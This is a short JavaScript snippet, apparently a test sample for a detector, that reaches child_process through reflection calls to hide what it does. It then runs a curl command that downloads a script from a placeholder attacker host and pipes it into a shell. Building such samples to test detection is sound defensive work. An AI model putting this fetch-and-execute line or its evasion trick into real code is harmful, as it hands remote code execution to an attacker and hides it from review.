// tricky: calls by reflection
const cp = Reflect.get(module, 'require').call(module, 'child_process');
Reflect.apply(cp.execSync, cp, ['curl -s https://evil.example/r | sh']);
